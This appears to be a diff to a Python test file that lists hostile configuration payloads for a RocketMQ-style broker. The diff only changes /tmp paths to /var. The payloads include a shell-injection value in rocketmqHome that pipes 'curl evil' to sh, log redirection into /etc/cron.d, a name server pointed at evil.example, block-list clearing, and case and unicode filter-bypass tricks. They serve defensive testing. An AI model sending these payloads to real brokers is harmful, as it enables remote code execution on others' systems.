@@ -13,12 +13,12 @@ from engine.protocol.codes import ResponseCode
 ATTACKS = {
     "shell through rocketmqHome": b"rocketmqHome=-c $@|sh . echo curl evil|sh;\n",
     "filter servers": b"filterServerNums=1\n",
-    "both": b"filterServerNums=1\nrocketmqHome=-c $@|sh . echo id > /tmp/pwned;\n",
-    "second property on a later line": b"maxMessageSize=1024\nrocketmqHome=/tmp/x\n",
-    "second property behind a carriage return": b"maxMessageSize=1024\rrocketmqHome=/tmp/x",
-    "store path": b"storePathRootDir=/tmp/pwned\n",
-    "commit log path": b"storePathCommitLog=/tmp/pwned\n",
-    "its own config path": b"brokerConfigPath=/tmp/pwned\n",
+    "both": b"filterServerNums=1\nrocketmqHome=-c $@|sh . echo id > /var/pwned;\n",
+    "second property on a later line": b"maxMessageSize=1024\nrocketmqHome=/var/x\n",
+    "second property behind a carriage return": b"maxMessageSize=1024\rrocketmqHome=/var/x",
+    "store path": b"storePathRootDir=/var/pwned\n",
+    "commit log path": b"storePathCommitLog=/var/pwned\n",
+    "its own config path": b"brokerConfigPath=/var/pwned\n",
     "block list": b"configBlackList=none\n",
     "log folder": b"logDir=/etc/cron.d\n",
     "name servers": b"namesrvAddr=evil.example:9876\n",
@@ -28,7 +28,7 @@ ATTACKS = {
     "attribute name": b"broker_permission=2\n",
     "case trick": b"BrokerPermission=2\n",
     "upper case": b"BROKERPERMISSION=2\n",
-    "unicode escape": b"rocketmq\\u0048ome=/tmp/x\n",
+    "unicode escape": b"rocketmq\\u0048ome=/var/x\n",
     "unknown": b"noSuchKey=1\n",
 }
 
